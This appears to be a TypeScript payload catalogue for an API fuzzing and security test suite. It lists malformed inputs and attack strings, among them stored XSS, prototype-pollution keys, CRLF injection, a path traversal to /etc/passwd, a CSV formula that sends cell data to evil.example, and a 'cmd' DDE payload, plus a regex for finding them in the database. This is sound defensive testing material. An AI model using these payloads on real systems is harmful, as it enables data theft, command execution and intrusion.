/**
 * The bad inputs of the suite, each written as every transport carries it: a URL-encoded value (forms and
 * query strings, where raw bytes such as %FF travel as they are), a JSON value (or raw JSON text, for bytes
 * and numbers JSON.stringify cannot write), and a path segment. A payload is tried in every field a route
 * names; `limit` is that field's own maximum length when the plan or the schema knows it.
 */

export type PayloadGroup = 'nul' | 'utf8' | 'surrogate' | 'huge' | 'type' | 'id' | 'date' | 'cursor' | 'int' | 'proto' | 'xss' | 'formula' | 'control';

/** JSON text inserted as is (invalid UTF-8 bytes, numbers beyond a double). */
export class RawJson {
  constructor(readonly bytes: Buffer) {}
}

/** The value a field gets; `omit` drops the field, `pairs` replaces the whole name=value of a form field. */
export type UrlValue = { value: string } | { pairs: (name: string) => string[] };

export interface Payload {
  name: string;
  group: PayloadGroup;
  /** Form or query value (percent-encoded already), or null when the transport cannot carry it. */
  url: ((limit: number | null, current: string) => UrlValue) | null;
  /** JSON value, or null when it makes no sense in JSON. */
  json: ((limit: number | null, current: unknown) => unknown) | null;
  /** A bad path parameter (percent-encoded), or null. */
  path: string | null;
  /** Multipart file: the cell text written into the CSV (bytes), or null. */
  cell: Buffer | null;
  /** Added after the field's valid value rather than instead of it (a field with no value is skipped). */
  after?: true;
}

const enc = (s: string) => encodeURIComponent(s);
const v = (s: string): UrlValue => ({ value: enc(s) });
const raw = (s: string): UrlValue => ({ value: s });
const b64 = (s: string) => Buffer.from(s).toString('base64url');
const utf8 = (s: string) => Buffer.from(s, 'utf8');

/** Field lengths to exceed when a field's own limit is unknown. */
export const DEFAULT_HUGE = 10_000;
/** Whole bodies beyond every parser's limit (forms 64 kB/256 kB, JSON 1 MB). */
export const HUGE_FORM_BODY = 300_000;
export const HUGE_JSON_BODY = 1_100_000;

export const XSS_SCRIPT = '<script>alert(1)</script>';
export const XSS_ATTR = '"><img src=x onerror=alert(1)>';
export const XSS_JS_URL = 'javascript:alert(1)';
export const FORMULA_HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
export const INJECTED_LINE = 'Injected-Line: evil';
/** A key set by the prototype payloads: if it ever appears on Object.prototype, the server was polluted. */
export const POLLUTION_KEY = 'polluted_by_suite';

const hugeText = (limit: number | null) => 'x'.repeat((limit ?? DEFAULT_HUGE) + 1);

/** A cursor of the page format (`<µs timestamp>|<id>`) with an impossible time or id. */
export const BAD_CURSORS = {
  feb30: b64('2026-02-30T00:00:00.000000Z|00000000-0000-4000-8000-000000000000'),
  year0: b64('0000-01-01T00:00:00.000000Z|1'),
  bigId: b64('2026-01-01T00:00:00.000000Z|9223372036854775808'),
};

function text(name: string, group: PayloadGroup, value: string, path: string | null = enc(value)): Payload {
  return { name, group, url: () => v(value), json: () => value, path, cell: utf8(value) };
}

export const PAYLOADS: Payload[] = [
  // NUL: PostgreSQL text cannot hold it.
  text('nul', 'nul', 'a\u0000b'),
  text('nul-only', 'nul', '\u0000'),
  // Invalid UTF-8: raw bytes in a form, a query string or a JSON body.
  { name: 'utf8-ff', group: 'utf8', url: () => raw('%FF'), json: () => new RawJson(Buffer.from([0x22, 0x61, 0xff, 0x62, 0x22])), path: '%FF', cell: Buffer.from([0x61, 0xff, 0x62]) },
  { name: 'utf8-c3-28', group: 'utf8', url: () => raw('%C3%28'), json: () => new RawJson(Buffer.from([0x22, 0xc3, 0x28, 0x22])), path: '%C3%28', cell: Buffer.from([0xc3, 0x28]) },
  // Lone surrogates: in JSON as an escape; in UTF-8 transports as the bytes a surrogate would have (CESU).
  { name: 'surrogate-high', group: 'surrogate', url: () => raw('%ED%A0%80'), json: () => 'a\ud800b', path: '%ED%A0%80', cell: Buffer.from([0xed, 0xa0, 0x80]) },
  { name: 'surrogate-low', group: 'surrogate', url: () => raw('x%ED%B0%80'), json: () => '\udc00', path: null, cell: null },
  // Over the field's own limit (the whole-body limit is tried once per route, see HUGE_*_BODY).
  { name: 'huge', group: 'huge', url: (limit) => raw(hugeText(limit)), json: (limit, current) => (Array.isArray(current) ? Array.from({ length: (limit ?? 1000) + 1 }, () => current[0] ?? 'x') : hugeText(limit)), path: 'x'.repeat(5000), cell: utf8('x'.repeat(70_000)) },
  // Wrong types.
  { name: 'array', group: 'type', url: () => ({ pairs: (n) => [`${enc(n)}=a`, `${enc(n)}=b`] }), json: () => ['a', 'b'], path: null, cell: null },
  { name: 'object', group: 'type', url: () => ({ pairs: (n) => [`${enc(`${n}[x]`)}=1`, `${enc(n)}[y]=2`] }), json: () => ({ x: '1' }), path: null, cell: null },
  { name: 'number', group: 'type', url: null, json: () => 12345, path: null, cell: null },
  { name: 'boolean', group: 'type', url: null, json: () => true, path: null, cell: null },
  { name: 'null', group: 'type', url: null, json: () => null, path: null, cell: null },
  { name: 'empty', group: 'type', url: () => raw(''), json: () => '', path: null, cell: utf8('') },
  { name: 'not-a-number', group: 'type', url: () => v('abc'), json: () => 'abc', path: 'abc', cell: utf8('abc') },
  // Ids Joi's guid() lets through and PostgreSQL refuses.
  text('uuid-brackets', 'id', '[00000000-0000-4000-8000-000000000000]'),
  text('uuid-colons', 'id', '00000000:0000:4000:8000:000000000000'),
  // Impossible dates and cursors.
  text('date-feb-30', 'date', '2026-02-30'),
  text('date-year-0', 'date', '0000-01-01'),
  text('timestamp-feb-30', 'date', '2026-02-30T10:00:00+07:00'),
  text('date-year-99999', 'date', '99999-12-31'),
  text('cursor-feb-30', 'cursor', BAD_CURSORS.feb30),
  text('cursor-year-0', 'cursor', BAD_CURSORS.year0),
  text('cursor-big-id', 'cursor', BAD_CURSORS.bigId),
  // Out-of-range integers (as JSON numbers too, written as they are).
  { name: 'int-2^63', group: 'int', url: () => raw('9223372036854775808'), json: () => new RawJson(utf8('9223372036854775808')), path: '9223372036854775808', cell: utf8('9223372036854775808') },
  { name: 'int-2^31', group: 'int', url: () => raw('2147483648'), json: () => 2147483648, path: '2147483648', cell: utf8('2147483648') },
  { name: 'int-minus-1', group: 'int', url: () => raw('-1'), json: () => -1, path: '-1', cell: utf8('-1') },
  { name: 'int-1e309', group: 'int', url: () => raw('1e309'), json: () => new RawJson(utf8('1e309')), path: '1e309', cell: utf8('1e309') },
  { name: 'float', group: 'int', url: () => raw('1.5'), json: () => 1.5, path: '1.5', cell: utf8('1.5') },
  // Prototype keys: as the field's value, and as keys next to it (see KEY_PAYLOADS).
  { name: 'proto-value', group: 'proto', url: () => ({ pairs: (n) => [`${enc(n)}=x`, `__proto__[${POLLUTION_KEY}]=1`, `${enc(n)}[__proto__][${POLLUTION_KEY}]=1`] }), json: () => protoObject(), path: '__proto__', cell: utf8('__proto__') },
  { name: 'constructor-prototype', group: 'proto', url: () => ({ pairs: (n) => [`${enc(n)}=x`, `constructor[prototype][${POLLUTION_KEY}]=1`] }), json: () => ({ constructor: { prototype: { [POLLUTION_KEY]: 1 } } }), path: 'constructor', cell: utf8('constructor') },
  // Stored XSS.
  text('xss-script', 'xss', XSS_SCRIPT),
  text('xss-attribute', 'xss', XSS_ATTR),
  text('xss-javascript-url', 'xss', XSS_JS_URL),
  // CSV formulas.
  text('formula-hyperlink', 'formula', FORMULA_HYPERLINK),
  text('formula-plus', 'formula', '+1'),
  text('formula-at', 'formula', '@SUM(A1)'),
  text('formula-minus', 'formula', "-2+3+cmd|' /C calc'!A0"),
  // Control and bidi characters (a CR/LF may not put a line of its own into an email).
  text('crlf-line', 'control', `Hoa\r\n${INJECTED_LINE}`),
  text('control-esc-bel', 'control', 'a\u0007\u001b[31mb'),
  text('bidi-override', 'control', '\u202Efdp.exe'),
];

/**
 * The same characters after a valid value, so they get past a format check (`segment=vip`, an email,
 * a key) and reach what stores or searches the value.
 */
function afterValid(name: string, group: PayloadGroup, tail: string | Buffer, jsonTail: string | Buffer = tail): Payload {
  const bytes = typeof tail === 'string' ? utf8(tail) : tail;
  const percent = [...bytes].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
  return {
    name: `${name}-after-valid`,
    group,
    after: true,
    url: (_limit, current) => raw(enc(current) + percent),
    json: (_limit, current) => (typeof jsonTail === 'string'
      ? `${String(current)}${jsonTail}`
      : new RawJson(Buffer.concat([utf8(JSON.stringify(String(current)).slice(0, -1)), jsonTail, utf8('"')]))),
    path: null,
    cell: bytes,
  };
}

PAYLOADS.push(
  afterValid('nul', 'nul', '\u0000'),
  afterValid('utf8-ff', 'utf8', Buffer.from([0xff])),
  // Forms and CSV carry a surrogate's bytes (not UTF-8); JSON its escape.
  afterValid('surrogate', 'surrogate', Buffer.from([0xed, 0xa0, 0x80]), '\ud800'),
  afterValid('xss-script', 'xss', XSS_SCRIPT),
  afterValid('xss-attribute', 'xss', XSS_ATTR),
  afterValid('crlf-line', 'control', `\r\n${INJECTED_LINE}`),
  afterValid('bidi-override', 'control', '\u202E'),
);

/** An object whose own key is `__proto__` (as JSON.parse makes it), so JSON.stringify writes the key. */
export function protoObject(): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  Object.defineProperty(o, '__proto__', { value: { [POLLUTION_KEY]: 1 }, enumerable: true, configurable: true, writable: true });
  return o;
}

/**
 * Payloads that add a key instead of changing a value: next to the route's fields (forms and query
 * strings) or at every level of a JSON body.
 */
export interface KeyPayload {
  name: string;
  group: PayloadGroup;
  url: string[];
  json: () => Record<string, unknown>;
}

export const KEY_PAYLOADS: KeyPayload[] = [
  { name: 'key-__proto__', group: 'proto', url: [`__proto__=x`, `__proto__[${POLLUTION_KEY}]=1`], json: () => protoObject() },
  { name: 'key-constructor', group: 'proto', url: [`constructor[prototype][${POLLUTION_KEY}]=1`], json: () => ({ constructor: { prototype: { [POLLUTION_KEY]: 1 } } }) },
  { name: 'key-nul', group: 'nul', url: ['x%00y=1'], json: () => ({ 'x\u0000y': 1 }) },
  { name: 'key-utf8', group: 'utf8', url: ['x%FFy=1'], json: () => ({ 'x\ud800y': 1 }) },
  { name: 'key-xss', group: 'xss', url: [`${enc(XSS_SCRIPT)}=1`], json: () => ({ [XSS_SCRIPT]: 1 }) },
  { name: 'key-many', group: 'huge', url: Array.from({ length: 1200 }, (_, i) => `k${i}=1`), json: () => Object.fromEntries(Array.from({ length: 1200 }, (_, i) => [`k${i}`, 1])) },
];

/** Bad values for path parameters (ids, keys, tokens), beyond each payload's own `path`. */
export const PATH_VALUES: Array<{ name: string; value: string }> = [
  { name: 'zero', value: '0' },
  { name: 'nil-uuid', value: '00000000-0000-0000-0000-000000000000' },
  { name: 'uuid-braces', value: enc('{00000000-0000-4000-8000-000000000000}') },
  { name: 'uuid-brackets', value: enc('[00000000-0000-4000-8000-000000000000]') },
  { name: 'uuid-colons', value: '00000000:0000:4000:8000:000000000000' },
  { name: 'uuid-no-dashes', value: '00000000000040008000000000000000' },
  { name: 'uuid-upper', value: 'ABCDEF00-0000-4000-8000-000000000000' },
  { name: 'dot-dot', value: '..%2F..%2Fetc%2Fpasswd' },
  { name: 'encoded-slash', value: 'a%2Fb' },
  { name: 'percent-bad', value: '%E0%A4%A' },
];

/** What the sweep looks for in the database: rows that hold an XSS or formula payload. */
export const STORED_MARKER_REGEX = 'alert\\(1\\)|=HYPERLINK|@SUM\\(A1\\)|cmd\\||Injected-Line';
